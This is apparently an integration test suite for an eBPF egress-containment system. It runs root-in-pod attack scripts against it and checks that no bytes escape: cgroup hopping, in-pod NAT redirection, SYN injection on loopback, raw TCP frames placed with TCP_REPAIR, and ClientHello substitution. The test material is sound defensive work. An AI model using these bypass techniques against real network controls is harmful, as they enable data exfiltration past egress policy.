// Containment of a workload with a root shell (issue 7, items 1 and 14): a socket's identity is the cgroup it
// was created in, and a flow is approved only as it was judged. Each attack runs twice: calibration (the
// workloads not enrolled: the attack must reach the internet server) and enforced (zero bytes may arrive).
// Both are judged on the receiving side, the server in the internet namespace.
import * as assert from 'node:assert/strict';
import { spawnSync, type ChildProcess } from 'node:child_process';
import { statSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, test } from 'vitest';

import { APPROVAL_IDLE, openDatapath } from '../../src/datapath/datapath.js';
import { findCgroup2Mount } from '../../src/datapath/mounts.js';
import type { DecodedEvent } from '../../src/datapath/abi.js';
import type { Datapath, KernelRule } from '../../src/datapath/types.js';
import { mustRunSync } from '../../lab/exec.js';
import { Lab, type LabPod } from '../../lab/lab.js';
import { DENY_BY_DEFAULT, eventMatching, rule } from '../support/datapath-helpers.js';
import { Lines } from '../support/lines.js';
import { privilegedSkip, uniquePrefix } from '../support/privileged.js';
import { buildClientHello } from '../unit/clienthello-helpers.js';

const objectPath = fileURLToPath(new URL('../../../bpf/egressguard.bpf.o', import.meta.url));
/** The same source without the cgroup_skb program's source and owner check (Makefile): tc's per-workload approvals alone. */
const withoutSkbSourceCheckPath = fileURLToPath(new URL('../../../bpf/tests/egressguard-without-skb-source-check.bpf.o', import.meta.url));
const skip = privilegedSkip();

const ALPHA_HOST = 2; // permitted to alpha only
const BETA_HOST = 3; // permitted to beta only
const WEB_HOST = 4; // learned for alpha's webGroup rule: its connections wait for the ClientHello
const PROXY_HOST = 5; // the DNS proxy address alpha's port-53 traffic is steered to
const WEB_RULE = 53;
const LOOPBACK_RULE = 54;

/** A TCP echo over the pod's loopback (server and client in the same process); prints {"result": "sent"} when the echo came back. */
const LOOPBACK_SCRIPT = String.raw`
import json, os, socket
a = json.loads(os.environ['EG_ARGS'])
fam = socket.AF_INET6 if ':' in a['dst'] else socket.AF_INET
server = socket.socket(fam, socket.SOCK_STREAM)
server.bind((a['dst'], 0))
server.listen(1)
client = socket.create_connection(server.getsockname()[:2], timeout=3)
peer, _ = server.accept()
client.sendall(a['tag'].encode())
peer.sendall(peer.recv(64))
print(json.dumps({'result': 'sent' if client.recv(64) == a['tag'].encode() else 'mismatch'}))`;
const PORT = 8443;
/** Source ports the NAT test's rewrite applies to (other connections to the same destination stay untouched). */
const NAT_PORT_FIRST = 45000;
const NAT_PORTS = `${NAT_PORT_FIRST}-${NAT_PORT_FIRST + 99}`;

/** A TCP server on PORT printing "got:<bytes as a JSON string>" for every chunk it receives (one line each whatever the bytes). */
const RECEIVER_SCRIPT = `
require('net').createServer((s) => { s.on('error', () => {}); s.on('data', (c) => console.log('got:' + JSON.stringify(c.toString('latin1')))); })
  .listen({ port: ${PORT}, host: '::' }, () => console.log('ready'));`;

/**
 * One TCP connection carrying `tag`: the process first moves to `moveBefore` (a cgroup.procs path), creates the
 * socket, then moves to `moveAfter`, and only then connects. Prints {"result": "sent"} or the error's name.
 */
const ATTACK_SCRIPT = String.raw`
import json, os, socket
a = json.loads(os.environ['EG_ARGS'])
def move(procs):
    with open(procs, 'w') as f: f.write(str(os.getpid()))
if a.get('moveBefore'): move(a['moveBefore'])
s = socket.socket(socket.AF_INET6 if ':' in a['dst'] else socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(2)
if a.get('sport'):
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(('::' if ':' in a['dst'] else '0.0.0.0', a['sport']))
if a.get('moveAfter'): move(a['moveAfter'])
try:
    s.connect((a['dst'], a['port']))
    s.sendall(a['tag'].encode())
    print(json.dumps({'result': 'sent'}))
except OSError as e:
    print(json.dumps({'result': type(e).__name__}))`;

/** In the internet namespace: prints "cap:<payload as a JSON string>" for every TCP segment or UDP datagram with payload that arrives (a capture). */
const CAPTURE_SCRIPT = String.raw`
import json, socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
print('ready', flush=True)
while True:
    f, addr = s.recvfrom(65535)
    if addr[2] == socket.PACKET_OUTGOING: continue
    kind, p = f[12:14], f[14:]
    if kind == b'\x08\x00': proto, l4 = p[9], p[(p[0] & 15) * 4:]
    elif kind == b'\x86\xdd': proto, l4 = p[6], p[40:]
    else: continue
    if proto == 6 and len(l4) >= 20 and len(l4) > (l4[12] >> 4) * 4:
        print('cap:' + json.dumps(l4[(l4[12] >> 4) * 4:].decode('latin1')), flush=True)
    elif proto == 17 and len(l4) > 8:
        print('cap:' + json.dumps(l4[8:].decode('latin1')), flush=True)`;

/** Python prelude of the frame-crafting attacks: EG_ARGS in `a`, and frame() building an IP/TCP packet with checksums. */
const FRAME_PY = String.raw`
import json, os, socket, struct, time
a = json.loads(os.environ['EG_ARGS'])
v6 = ':' in a['dst']
fam = socket.AF_INET6 if v6 else socket.AF_INET
def csum(b):
    if len(b) % 2: b += b'\0'
    t = sum(struct.unpack('!%dH' % (len(b) // 2), b)); t = (t >> 16) + (t & 0xffff); t += t >> 16
    return (~t) & 0xffff
def frame(src, dst, sport, dport, flags, seq, payload=b'', ack=0, urgent=0):
    s, d = socket.inet_pton(fam, src), socket.inet_pton(fam, dst)
    tcp = struct.pack('!HHIIBBHHH', sport, dport, seq, ack, 5 << 4, flags, 65535, 0, urgent) + payload
    pseudo = s + d + (struct.pack('!I', len(tcp)) + b'\0\0\0\x06' if v6 else struct.pack('!BBH', 0, 6, len(tcp)))
    tcp = tcp[:16] + struct.pack('!H', csum(pseudo + tcp)) + tcp[18:]
    if v6:
        return b'\x86\xdd', struct.pack('!IHBB', 0x60000000, len(tcp), 6, 64) + s + d + tcp
    h = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, s, d)
    return b'\x08\x00', h[:10] + struct.pack('!H', csum(h)) + h[12:] + tcp
def send_eth0(kind, packet):
    eth = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    eth.bind(('eth0', 0))
    eth.send(bytes.fromhex(a['gatewayMac'].replace(':', '')) + eth.getsockname()[4] + kind + packet)
`;

/**
 * A manufactured approval: the pod's own listener answers a SYN "from" the attacker's address that the pod
 * injects on lo (AF_PACKET), then the pod sends raw frames on that tuple out of eth0 carrying the tag.
 */
const INJECT_SCRIPT =
  FRAME_PY +
  String.raw`
listener = socket.socket(fam, socket.SOCK_STREAM)
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind((a['own'], a['listenPort']))
listener.listen(8)
lo = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
lo.bind(('lo', 0))
kind, syn = frame(a['dst'], a['own'], a['attackerPort'], a['listenPort'], 0x02, 1000)
lo.send(b'\0' * 12 + kind + syn)
time.sleep(0.3)
send_eth0(*frame(a['own'], a['dst'], a['listenPort'], a['attackerPort'], 0x18, 5000, a['tag'].encode()))
print(json.dumps({'result': 'sent'}))`;

/**
 * Raw frames on the tuple of a socket whose verdict waits for its ClientHello: the socket connects (its
 * handshake must work), optionally sends a ClientHello (hex in `hello`), then the pod sends the tag in a raw
 * frame on the socket's own tuple at the socket's next sequence number (read in TCP_REPAIR mode).
 */
const PENDING_SCRIPT =
  FRAME_PY +
  String.raw`
TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ, TCP_SEND_QUEUE = 19, 20, 21, 2
s = socket.create_connection((a['dst'], a['port']), timeout=3)
own, lport = s.getsockname()[:2]
if a.get('hello'):
    s.sendall(bytes.fromhex(a['hello']))
    time.sleep(0.3)
s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, TCP_SEND_QUEUE)
seq = s.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xffffffff
s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 0)
send_eth0(*frame(own, a['dst'], lport, a['port'], 0x18, seq, a['tag'].encode()))
print(json.dumps({'result': 'sent'}))`;

/**
 * A first flight substituted after the cgroup skb program judged it: the pod's own nftables egress hook on its eth0
 * (netdev family: it runs after the cgroup skb program, as a qdisc does) drops its socket's data segments (TCP header
 * with timestamps, doff 8; the raw frame's has none), the socket sends the first `part` bytes of `judged` (default:
 * `forged` with the tag), and the pod sends the same number of bytes of `forged` (the tag in its random) in a raw frame
 * at the same sequence number, acknowledging what the socket has received (both read in TCP_REPAIR mode). Variants:
 * `offset` puts the raw frame that many bytes further, after a raw SYN one before it (a stream with another initial
 * sequence number); `urgent` marks its first byte urgent; `peerSyn` (a script run in the netns at that path) first
 * makes the server's address send a SYN on the tuple, which the pod waits to see arrive.
 */
const SUBSTITUTE_SCRIPT =
  FRAME_PY +
  String.raw`
import subprocess
TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ, TCP_RECV_QUEUE, TCP_SEND_QUEUE = 19, 20, 21, 1, 2
def queue_seq(s, queue):
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
    seq = s.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xffffffff
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 0)
    return seq
def nft(commands):
    subprocess.run(['nft', '-f', '-'], input=commands, text=True, check=True)
forged = bytearray(bytes.fromhex(a['forged']))
forged[11:11 + len(a['tag'])] = a['tag'].encode()
judged = bytes.fromhex(a['judged']) if a.get('judged') else bytes(forged)
s = socket.create_connection((a['dst'], a['port']), timeout=3)
own, lport = s.getsockname()[:2]
nft('table netdev egsubst {\n chain out {\n type filter hook egress device eth0 priority 0\n tcp sport %d tcp doff 8 drop\n }\n}' % lport)
try:
    seq, ack = queue_seq(s, TCP_SEND_QUEUE), queue_seq(s, TCP_RECV_QUEUE)
    s.sendall(judged[:a['part']])
    if a.get('peerSyn'):
        sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        sniff.bind(('eth0', 0))
        sniff.settimeout(3)
        env = dict(os.environ, EG_ARGS=json.dumps(dict(a, own=own, lport=lport)))
        subprocess.run(['nsenter', '--net=' + a['peerSyn'], 'python3', '-c', a['peerSynScript']], env=env, check=True)
        while True:  # until the SYN arrived on the pod's side (dst port lport, flags SYN only)
            f = sniff.recv(65535)
            l4 = f[14 + 40:] if v6 else f[14 + (f[14] & 15) * 4:]
            if f[12:14] == (b'\x86\xdd' if v6 else b'\x08\x00') and struct.unpack('!H', l4[2:4])[0] == lport and l4[13] == 0x02:
                break
    at = seq + a.get('offset', 0)
    if a.get('offset'):
        send_eth0(*frame(own, a['dst'], lport, a['port'], 0x02, at - 1))
    flags, urgent = (0x38, 1) if a.get('urgent') else (0x18, 0)
    send_eth0(*frame(own, a['dst'], lport, a['port'], flags, at, bytes(forged[:a['part']]), ack, urgent))
finally:
    nft('delete table netdev egsubst')
print(json.dumps({'result': 'sent'}))`;

/**
 * In the internet namespace and the `peerCgroup` (cgroup.procs path): a SYN from the server's address and port to the pod's
 * socket (`own`, `lport`), sent raw.
 */
const PEER_SYN_SCRIPT =
  FRAME_PY +
  String.raw`
with open(a['peerCgroup'], 'w') as f: f.write(str(os.getpid()))  # not the pod's: it plays another host
raw = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.sendto(frame(a['dst'], a['own'], a['port'], a['lport'], 0x02, 777)[1], (a['own'], 0))`;

/** A ClientHello (hex in `hello`, the tag written into its random) sent as urgent data (MSG_OOB) on a new connection. */
const URGENT_SCRIPT = String.raw`
import json, os, socket
a = json.loads(os.environ['EG_ARGS'])
hello = bytearray(bytes.fromhex(a['hello']))
hello[11:11 + len(a['tag'])] = a['tag'].encode()
s = socket.create_connection((a['dst'], a['port']), timeout=3)
s.send(bytes(hello), socket.MSG_OOB)
print(json.dumps({'result': 'sent'}))`;

/**
 * A permitted TLS connection held open: sends the ClientHello (hex in `hello`), prints "acked" once the server has
 * acknowledged all of it (tcp_info's unacked is 0), then, on a line on stdin, sends the tag and prints "sent".
 */
const HELD_SCRIPT = String.raw`
import json, os, socket, struct, sys, time
a = json.loads(os.environ['EG_ARGS'])
s = socket.create_connection((a['dst'], a['port']), timeout=3)
s.sendall(bytes.fromhex(a['hello']))
while struct.unpack_from('I', s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 104), 24)[0]:
    time.sleep(0.01)
print('acked', flush=True)
sys.stdin.readline()
s.sendall(a['tag'].encode())
print('sent', flush=True)
sys.stdin.readline()`;

interface Attempt {
  /** Pod whose network namespace (address, interface) the process runs in. */
  pod: LabPod;
  dst: string;
  moveBefore?: string;
  moveAfter?: string;
  /** Source port to bind (default: the kernel's choice). */
  sport?: number;
}

/** A UDP datagram carrying the tag from sport to dst port 53 (a DNS query's path: the proxy's, when steered). */
const DNS_SCRIPT = String.raw`
import json, os, socket
a = json.loads(os.environ['EG_ARGS'])
v6 = ':' in a['dst']
s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_DGRAM)
s.bind(('::' if v6 else '0.0.0.0', a['sport']))
try:
    s.sendto(a['tag'].encode(), (a['dst'], 53))
    print(json.dumps({'result': 'sent'}))
except OSError as e:
    print(json.dumps({'result': type(e).__name__}))`;

/**
 * The tests, on the production object (skbChecksSource) or on the object whose cgroup_skb program does not check a
 * packet's source and owning cgroup, where only the test that needs tc's per-workload approval key alone runs.
 */
const identitySuite = (skbChecksSource: boolean) => () => {
  let lab: Lab;
  let alpha: LabPod;
  let beta: LabPod;
  let datapath: Datapath;
  let receiver: ChildProcess;
  let capture: ChildProcess;
  let gatewayMac = '';
  const received: string[] = [];
  const captured: string[] = [];
  const events: DecodedEvent[] = [];
  let serial = 0;

  const permitTo = (ruleId: number, host: number): KernelRule =>
    rule({
      ruleId,
      action: 'permit',
      protocol: 'tcp',
      portLow: PORT,
      portHigh: PORT,
      cidrs: [
        { family: 4, address: lab.inet(host, 4), prefix: 32 },
        { family: 6, address: lab.inet(host, 6), prefix: 128 },
      ],
    });

  function enrol(): void {
    const webRule = rule({
      ruleId: WEB_RULE,
      action: 'permit',
      protocol: 'tcp',
      portLow: PORT,
      portHigh: PORT,
      web: true,
      domains: [{ kind: 'exact', name: 'allowed.example' }],
    });
    const loopback = rule({
      ruleId: LOOPBACK_RULE,
      action: 'permit',
      protocol: 'tcp',
      cidrs: [
        { family: 4, address: '127.0.0.1', prefix: 32 },
        { family: 6, address: '::1', prefix: 128 },
      ],
    });
    const alphaId = datapath.setWorkload(alpha.cgroupPath, [permitTo(51, ALPHA_HOST), webRule, loopback], {
      interfaces: [alpha.nodeInterface],
      addresses: [alpha.ipv4, alpha.ipv6],
    });
    const expiresAtNs = process.hrtime.bigint() + 600_000_000_000n;
    datapath.learn(
      ([4, 6] as const).map((family) => ({ workloadId: alphaId, ruleId: WEB_RULE, ip: lab.inet(WEB_HOST, family), expiresAtNs })),
    );
    datapath.setWorkload(beta.cgroupPath, [permitTo(52, BETA_HOST)], {
      interfaces: [beta.nodeInterface],
      addresses: [beta.ipv4, beta.ipv6],
    });
  }

  function withdraw(): void {
    for (const pod of [alpha, beta]) if (datapath.workloads().has(statIno(pod.cgroupPath))) datapath.removeWorkload(pod.cgroupPath);
  }

  /** Runs a python attack script in the pod's netns (starting in the pod's cgroup) with a fresh tag; returns the tag and its result. */
  /** The command line running a python script in the pod's netns, from the pod's cgroup. */
  const inPod = (pod: LabPod, script: string): string[] => [
    `--net=${pod.netnsPath}`,
    '--',
    'sh',
    '-c',
    `echo $$ > ${join(pod.cgroupPath, 'cgroup.procs')} && exec "$@"`,
    'sh',
    'python3',
    '-c',
    script,
  ];

  function runAttack(pod: LabPod, script: string, args: Record<string, unknown>, timeoutMs = 15_000): { tag: string; result: string } {
    const tag = `t${++serial}-${pod.name}`;
    const out = spawnSync('nsenter', inPod(pod, script), {
      env: { ...process.env, EG_ARGS: JSON.stringify({ ...args, tag, port: PORT }) },
      encoding: 'utf8',
      timeout: timeoutMs,
    });
    assert.equal(out.status, 0, `attack script failed: ${out.stdout} ${out.stderr}`);
    return { tag, result: (JSON.parse(out.stdout) as { result: string }).result };
  }

  /** HELD_SCRIPT on a new connection of alpha's to WEB_HOST, once the server has acknowledged `hello`. */
  async function heldConnection(family: 4 | 6, hello: Buffer, tag: string): Promise<{ process: ChildProcess; lines: string[] }> {
    const child = lab.spawnInPod(alpha, ['python3', '-c', HELD_SCRIPT], {
      env: { ...process.env, EG_ARGS: JSON.stringify({ dst: lab.inet(WEB_HOST, family), port: PORT, tag, hello: hello.toString('hex') }) },
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    const lines: string[] = [];
    new Lines(child, (line) => lines.push(line));
    await arrived('acked', lines);
    return { process: child, lines };
  }

  const attempt = ({ pod, ...args }: Attempt): { tag: string; result: string } => runAttack(pod, ATTACK_SCRIPT, args);

  /** Waits until a line of `log` (what the server received, or the capture) contains text. */
  async function arrived(text: string, log: string[] = received): Promise<void> {
    const deadline = Date.now() + 5000;
    while (!log.some((line) => line.includes(text))) {
      if (Date.now() > deadline) throw new Error(`${text} never arrived; saw ${JSON.stringify(log.slice(-10))}`);
      await new Promise((r) => setTimeout(r, 20));
    }
  }

  /** An allowed connection of alpha by the same path: anything sent before it has arrived if it ever will. */
  async function flush(family: 4 | 6, log: string[] = received): Promise<void> {
    const marker = attempt({ pod: alpha, dst: lab.inet(ALPHA_HOST, family) });
    assert.equal(marker.result, 'sent');
    await arrived(marker.tag, log);
  }

  /**
   * Calibration (not enrolled: the attack must reach the receiving side), then enforced: zero bytes of it arrive
   * while allowed traffic flows. log: the receiving side's record (the server's by default, or the capture).
   */
  async function contained(
    family: 4 | 6,
    run: () => { tag: string; result: string },
    log: string[] = received,
  ): Promise<{ tag: string; result: string }> {
    events.length = 0; // the events a test then looks for are this attack's
    withdraw();
    const calibration = run();
    assert.equal(calibration.result, 'sent', 'calibration: the attack transmits without enforcement');
    await arrived(calibration.tag, log);
    enrol();
    const enforced = run();
    await flush(family, log);
    assert.ok(
      !log.some((line) => line.includes(enforced.tag)),
      `enforced: ${enforced.tag} reached the receiving side (client: ${enforced.result})`,
    );
    return enforced;
  }

  beforeAll(async () => {
    lab = await Lab.create({
      prefix: uniquePrefix(skbChecksSource ? 'ci' : 'cj'),
      pods: ['alpha', 'beta'],
      hosts: [],
      unnamedHosts: [ALPHA_HOST, BETA_HOST, WEB_HOST, PROXY_HOST],
      extraCgroups: ['unenrolled'],
      services: false,
    });
    alpha = lab.pod('alpha');
    beta = lab.pod('beta');
    receiver = await lab.serve(RECEIVER_SCRIPT);
    new Lines(receiver, (line) => line.startsWith('got:') && received.push(line.slice(4)));
    capture = lab.spawnInInternet(['python3', '-c', CAPTURE_SCRIPT], { stdio: ['ignore', 'pipe', 'pipe'] });
    await new Promise<void>((resolve, reject) => {
      capture.once('exit', (code) => reject(new Error(`capture exited (${code})`)));
      capture.stdout!.once('data', () => resolve());
    });
    new Lines(capture, (line) => line.startsWith('cap:') && captured.push(line.slice(4)));
    gatewayMac = (
      JSON.parse(mustRunSync(['ip', '-n', lab.nodeNetns, '-j', 'link', 'show', alpha.nodeInterface])) as Array<{ address: string }>
    )[0]!.address;
    datapath = openDatapath({
      objectPath: skbChecksSource ? objectPath : withoutSkbSourceCheckPath,
      pinDir: lab.pinDir,
      attachCgroup: lab.attachCgroup,
      hostNetns: `/run/netns/${lab.nodeNetns}`,
    });
    datapath.onEvent((event) => events.push(event as DecodedEvent));
    datapath.configure({ ...DENY_BY_DEFAULT, dnsProxy: { ipv4: lab.inet(PROXY_HOST, 4), ipv6: lab.inet(PROXY_HOST, 6), port: 53 } });
    enrol();
    for (const family of [4, 6] as const) await flush(family);
  }, 60_000);

  afterAll(async () => {
    try {
      datapath?.close();
    } finally {
      await lab?.destroy();
    }
  });

  const procs = (cgroup: string): string => join(cgroup, 'cgroup.procs');
  const unenrolled = (): string => procs(join(lab.attachCgroup, 'unenrolled'));
  const cgroupRoot = (): string => procs(findCgroup2Mount()!);

  if (!skbChecksSource) {
    for (const family of [4, 6] as const) {
      test(`IPv${family}: a flow approved for the workload whose cgroup a process joined never passes its own pod's interface`, async () => {
        // The socket is beta's (created in beta's cgroup) and beta's rules permit it, so its connect passes and,
        // without the cgroup_skb check, its packets are approved for beta: only tc on alpha's interface, which
        // looks approvals up under alpha's workload id, stands between it and beta's host.
        // Judged on the internet side's capture: not one payload byte of it arrives.
        const enforced = await contained(
          family,
          () => attempt({ pod: alpha, dst: lab.inet(BETA_HOST, family), moveBefore: procs(beta.cgroupPath) }),
          captured,
        );
        assert.notEqual(enforced.result, 'PermissionError', 'the connect hook judged it as beta and permitted it');
        const atTc = await eventMatching(events, (e) => e.hook === 6 && e.verdict === 'denied' && e.ip === lab.inet(BETA_HOST, family));
        assert.equal(atTc.workloadId, datapath.workloads().get(statIno(alpha.cgroupPath)));
        assert.equal(
          events.some((e) => e.hook === 5 && e.verdict === 'denied' && e.ip === lab.inet(BETA_HOST, family)),
          false,
          'the cgroup_skb program let it pass: tc alone dropped it',
        );
        // Beta itself still reaches its host (alpha reached its own in `contained`).
        const allowed = attempt({ pod: beta, dst: lab.inet(BETA_HOST, family) });
        assert.equal(allowed.result, 'sent');
        await arrived(allowed.tag);
      });
    }
    return;
  }

  for (const family of [4, 6] as const) {
    test(`IPv${family}: a socket created in the workload is judged as the workload after its process moves out`, async () => {
      for (const moveAfter of [unenrolled(), cgroupRoot()]) {
        const enforced = await contained(family, () => attempt({ pod: alpha, dst: lab.inet(BETA_HOST, family), moveAfter }));
        assert.equal(enforced.result, 'PermissionError', `moved to ${moveAfter}: the connect hook judged it as alpha`);
      }
      const event = await eventMatching(
        events,
        (e) => e.layer === 'connect' && e.verdict === 'denied' && e.ip === lab.inet(BETA_HOST, family),
      );
      assert.equal(event.workloadId, datapath.workloads().get(statIno(alpha.cgroupPath)));
      // Allowed traffic keeps working for a moved socket.
      const allowed = attempt({ pod: alpha, dst: lab.inet(ALPHA_HOST, family), moveAfter: unenrolled() });
      assert.equal(allowed.result, 'sent');
      await arrived(allowed.tag);
    });

    test(`IPv${family}: sockets created outside every workload are held to the interface's workload at tc`, async () => {
      for (const moveBefore of [unenrolled(), cgroupRoot()]) {
        await contained(family, () => attempt({ pod: alpha, dst: lab.inet(BETA_HOST, family), moveBefore }));
        // What the interface's workload permits still works, judged packet by packet.
        const allowed = attempt({ pod: alpha, dst: lab.inet(ALPHA_HOST, family), moveBefore });
        assert.equal(allowed.result, 'sent');
        await arrived(allowed.tag);
      }
      const alphaId = datapath.workloads().get(statIno(alpha.cgroupPath));
      const event = await eventMatching(events, (e) => e.hook === 6 && e.verdict === 'denied' && e.ip === lab.inet(BETA_HOST, family));
      assert.equal(event.workloadId, alphaId);
    });

    test(`IPv${family}: a process that joins another workload's cgroup does not get its rules from its own pod`, async () => {
      await contained(family, () => attempt({ pod: alpha, dst: lab.inet(BETA_HOST, family), moveBefore: procs(beta.cgroupPath) }));
      const event = await eventMatching(events, (e) => e.hook === 5 && e.layer === 'packet' && e.ip === lab.inet(BETA_HOST, family));
      assert.equal(event.verdict, 'denied');
      // Beta itself still reaches its host.
      const allowed = attempt({ pod: beta, dst: lab.inet(BETA_HOST, family) });
      assert.equal(allowed.result, 'sent');
      await arrived(allowed.tag);
    });

    test(`IPv${family}: the pod's own loopback traffic, permitted by its policy, keeps working`, () => {
      const echo = runAttack(alpha, LOOPBACK_SCRIPT, { dst: family === 4 ? '127.0.0.1' : '::1' });
      assert.equal(echo.result, 'sent');
    });

    test(`IPv${family}: NAT inside the pod cannot send a judged flow elsewhere`, async () => {
      const table = family === 4 ? 'ip' : 'ip6';
      const attacker = lab.inet(BETA_HOST, family);
      let sport = NAT_PORT_FIRST + family * 10;
      // The pod's own nftables (CAP_NET_ADMIN in its netns) rewrites the destination to beta's host (the attacker):
      // an address rule's flow, a webGroup flow to an address learned for its allowed name, a DNS query (steered to
      // the proxy when enforced; the rewrite applies to whatever port-53 destination it has).
      const cases = [
        {
          match: `${table} daddr ${lab.inet(ALPHA_HOST, family)} tcp sport ${NAT_PORTS} tcp dport ${PORT}`,
          run: () => attempt({ pod: alpha, dst: lab.inet(ALPHA_HOST, family), sport: ++sport }),
          log: received,
          port: PORT,
        },
        {
          match: `${table} daddr ${lab.inet(WEB_HOST, family)} tcp sport ${NAT_PORTS} tcp dport ${PORT}`,
          run: () => attempt({ pod: alpha, dst: lab.inet(WEB_HOST, family), sport: ++sport }),
          log: received,
          port: PORT,
        },
        {
          match: `udp sport ${NAT_PORTS} udp dport 53`,
          run: () => runAttack(alpha, DNS_SCRIPT, { dst: lab.inet(ALPHA_HOST, family), sport: ++sport }),
          log: captured,
          port: 53,
        },
      ];
      for (const { match, run, log, port } of cases) {
        nftInPod(
          alpha,
          [
            `table ${table} egtest {`,
            '  chain out {',
            '    type nat hook output priority -100;',
            `    ${match} dnat to ${attacker}`,
            '  }',
            '}',
          ].join('\n'),
        );
        try {
          await contained(family, run, log);
          // Reported where the packet really went, from where, and why: not as its hook judged it.
          const event = await eventMatching(events, (e) => e.hook === 5 && e.verdict === 'denied' && e.ip === attacker);
          assert.equal(event.workloadId, datapath.workloads().get(statIno(alpha.cgroupPath)), match);
          assert.equal(event.reason, 'not-as-judged', match);
          assert.equal(event.source, family === 4 ? alpha.ipv4 : alpha.ipv6, match);
          assert.equal(event.port, port, match);
        } finally {
          nftInPod(alpha, `delete table ${table} egtest`);
        }
      }
      // Without the rewrite, the same destination works again.
      await flush(family);
    });

    test(`IPv${family}: a SYN the pod injects on lo and its listener's answer approve nothing`, async () => {
      const own = family === 4 ? alpha.ipv4 : alpha.ipv6;
      let attackerPort = 41000 + family * 100;
      await contained(
        family,
        () =>
          runAttack(alpha, INJECT_SCRIPT, {
            own,
            dst: lab.inet(BETA_HOST, family),
            listenPort: 7000,
            attackerPort: ++attackerPort,
            gatewayMac,
          }),
        captured,
      );
      const event = await eventMatching(events, (e) => e.hook === 6 && e.verdict === 'denied' && e.ip === lab.inet(BETA_HOST, family));
      assert.equal(event.protocol, 6);
    });

    test(`IPv${family}: a flow waiting for its ClientHello passes only its own socket's bytes, and a TLS deny revokes it`, async () => {
      const pending = (hello?: string) => () =>
        runAttack(alpha, PENDING_SCRIPT, { dst: lab.inet(WEB_HOST, family), gatewayMac, ...(hello ? { hello } : {}) });
      // Before any ClientHello: the handshake works, a raw frame carrying data on its tuple does not pass.
      await contained(family, pending(), captured);
      // A ClientHello with a forbidden SNI is dropped, and the tuple no longer passes anything at tc either.
      await contained(family, pending(buildClientHello({ sni: 'evil.example' }).toString('hex')), captured);
      const denied = await eventMatching(
        events,
        (e) => e.layer === 'tls' && e.sni === 'evil.example' && e.ip === lab.inet(WEB_HOST, family),
      );
      assert.equal(denied.verdict, 'denied');
      // Allowed: the ClientHello with the allowed SNI reaches the server, and the socket's flow is approved.
      const allowed = pending(buildClientHello({ sni: 'allowed.example' }).toString('hex'))();
      await arrived(allowed.tag, captured);
      await arrived('allowed.example'); // the server's own record of the ClientHello
    });

    test(`IPv${family}: a first flight substituted inside the pod after it was judged never leaves the node, and revokes its flow`, async () => {
      // Same length, so the forged ClientHello covers exactly the sequence range its socket sent.
      const judged = buildClientHello({ sni: 'allowed.example' });
      const forged = buildClientHello({ sni: 'blocked.example' });
      assert.equal(forged.length, judged.length);
      const alphaId = datapath.workloads().get(statIno(alpha.cgroupPath));
      // The whole ClientHello (permitted, its flow approved but its first flight still compared), then only the
      // start of one (pending: the backstop passes its socket's bytes while the rest is awaited).
      for (const part of [judged.length, 60]) {
        const substitute = () =>
          runAttack(alpha, SUBSTITUTE_SCRIPT, {
            dst: lab.inet(WEB_HOST, family),
            gatewayMac,
            judged: judged.toString('hex'),
            forged: forged.toString('hex'),
            part,
          });
        await contained(family, substitute, captured);
        // The substitution's own event: once the flow is revoked, the socket's later segments are judged at tc too.
        const event = await eventMatching(events, (e) => e.hook === 6 && e.ip === lab.inet(WEB_HOST, family) && e.reason === 'not-as-sent');
        assert.equal(event.verdict, 'denied');
        assert.equal(event.workloadId, alphaId);
        assert.equal(event.source, family === 4 ? alpha.ipv4 : alpha.ipv6);
      }
      // Revoked: nothing of the tuple is left approved, and no first flight is held.
      assert.equal(datapath.approvedFlows().get(alphaId!)?.flights, 0);
      // An allowed ClientHello on another connection still completes.
      const allowed = runAttack(alpha, PENDING_SCRIPT, { dst: lab.inet(WEB_HOST, family), gatewayMac, hello: judged.toString('hex') });
      await arrived(allowed.tag, captured);
      await arrived('allowed.example');
    });

    test(`IPv${family}: a permitted first flight cannot be bypassed by a SYN with another initial sequence number, urgent data, or a SYN from the peer's address`, async () => {
      const judged = buildClientHello({ sni: 'allowed.example' });
      const forged = buildClientHello({ sni: 'blocked.example' });
      const alphaId = datapath.workloads().get(statIno(alpha.cgroupPath));
      const substitute = (variant: Record<string, unknown>) => () =>
        runAttack(alpha, SUBSTITUTE_SCRIPT, { dst: lab.inet(WEB_HOST, family), gatewayMac, forged: forged.toString('hex'), ...variant });
      const cases = [
        // A new stream whose initial sequence number puts the forged ClientHello past the judged copy.
        { judged: judged.toString('hex'), part: forged.length, offset: judged.length },
        // The judged bytes themselves (the tag in their random), their first byte marked urgent: the server's stack
        // would take it out of the stream.
        { forged: judged.toString('hex'), part: judged.length, urgent: true },
        // A SYN on the tuple from the server's address (over the node's routing path) must not make the judged
        // approval a full one: the substituted ClientHello is still compared.
        {
          judged: judged.toString('hex'),
          part: judged.length,
          peerSyn: `/run/netns/${lab.inetNetns}`,
          peerSynScript: PEER_SYN_SCRIPT,
          peerCgroup: unenrolled(),
        },
      ];
